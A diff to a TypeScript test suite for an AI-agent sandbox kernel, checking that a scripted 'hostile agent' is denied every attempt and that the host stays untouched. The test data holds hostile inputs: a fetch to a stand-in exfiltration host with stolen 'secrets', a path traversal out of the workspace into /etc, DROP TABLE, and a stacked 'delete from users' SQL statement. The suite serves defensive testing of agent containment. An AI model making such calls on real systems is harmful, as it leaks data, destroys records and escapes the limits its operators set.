@@ -24,6 +24,12 @@ function standardRuleIds(): string[] {
 
 let dir: { path: string; cleanup: () => void };
 let workspace: string;
+/**
+ * Where the hostile agent's `/workspace/../../etc/agent-was-here` would land on the host if the
+ * kernel joined it onto the mount without confining it: a directory this test owns (the tests
+ * run as root here, so a check on the host's own /etc alone would prove nothing either way).
+ */
+let escapeDir: string;
 let dbFile: string;
 let kernel: KernelSpace;
 
@@ -44,8 +50,10 @@ async function events(runId: string): Promise<LoggedEvent[]> {
 
 beforeAll(() => {
   dir = tempDir("examples");
-  workspace = join(dir.path, "workspace");
-  mkdirSync(workspace);
+  workspace = join(dir.path, "host", "workspace");
+  mkdirSync(workspace, { recursive: true });
+  escapeDir = join(dir.path, "etc");
+  mkdirSync(escapeDir);
   writeFileSync(join(workspace, "notes.txt"), NOTES);
   writeFileSync(join(dir.path, "outside.txt"), OUTSIDE);
   dbFile = join(dir.path, "app.db");
@@ -112,10 +120,15 @@ describe("the hostile agent is refused everything under standard", () => {
       ["fetch an unlisted host", "http.fetch", "https://exfiltrate.example/steal?data=secrets"],
       ["DROP TABLE", "sql.query", "main"],
     ];
-    expect(result.denials.map((d) => [d.action, d.resource])).toEqual(decided.map(([, action, resource]) => [action, resource]));
+    // Every refused call is listed: the six the policy denied, and the stacked DELETE refused before it.
+    expect(result.denials.map((d) => [d.action, d.resource, d.kind])).toEqual([
+      ...decided.map(([, action, resource]) => [action, resource, "policy"]),
+      ["sql.query", "", "invalid"],
+    ]);
+    const byPolicy = result.denials.filter((d) => d.kind === "policy");
     const ids = standardRuleIds();
     // Each denial names its rule; only the unlisted host meets the default (the network is an allowlist).
-    expect(result.denials.map((d) => d.rule)).toEqual([
+    expect(byPolicy.map((d) => d.rule)).toEqual([
       "standard-system-paths",
       "standard-prod",
       "standard-system-paths",
@@ -123,7 +136,7 @@ describe("the hostile agent is refused everything under standard", () => {
       null,
       expect.stringMatching(/^standard-sql-destructive-/),
     ]);
-    result.denials.forEach((denial, i) => {
+    byPolicy.forEach((denial, i) => {
       const attempt = attempts.find((a) => a.name === decided[i][0]);
       if (denial.rule === null) expect(denial.reason).toBe("no rule matched; default deny");
       else expect(ids).toContain(denial.rule);
@@ -133,7 +146,7 @@ describe("the hostile agent is refused everything under standard", () => {
     const log = await events(result.runId);
     const decidedCalls = log.filter((e) => e.type === "call" && !("invalid" in e.data));
     const denied = decidedCalls.filter((e) => (e.data as { decision: { effect: string } }).decision.effect === "deny");
-    expect(denied.map((e) => [e.seq, (e.data as { decision: { rule: string | null } }).decision.rule])).toEqual(result.denials.map((d) => [d.seq, d.rule]));
+    expect(denied.map((e) => [e.seq, (e.data as { decision: { rule: string | null } }).decision.rule])).toEqual(byPolicy.map((d) => [d.seq, d.rule]));
     // Nothing was carried out: no call of the run was allowed.
     const allowed = log.filter((e) => e.type === "call" && (e.data as { decision: { effect: string } }).decision.effect !== "deny");
     expect(allowed).toEqual([]);
@@ -146,6 +159,9 @@ describe("the hostile agent is refused everything under standard", () => {
     expect(invalid.map((e) => e.data)).toMatchObject([
       { action: "sql.query", args: ["main", "select 1; delete from users", []], invalid: "only one SQL statement per call", decision: { effect: "deny", rule: null } },
     ]);
+    expect(result.denials.filter((d) => d.kind === "invalid")).toEqual([
+      { seq: invalid[0].seq, action: "sql.query", resource: "", rule: null, reason: "invalid call: only one SQL statement per call", kind: "invalid" },
+    ]);
   });
 
   it("ambient authority does not exist in the isolate", () => {
@@ -155,6 +171,8 @@ describe("the hostile agent is refused everything under standard", () => {
   });
 
   it("the host is untouched", () => {
+    // Where an escape from the mount would have written, and the host's own /etc (root can write there).
+    expect(readdirSync(escapeDir)).toEqual([]);
     expect(existsSync("/etc/agent-was-here")).toBe(false);
     expect(existsSync("/prod/config.json")).toBe(false);
     expect(readFileSync(join(dir.path, "outside.txt"), "utf8")).toBe(OUTSIDE);
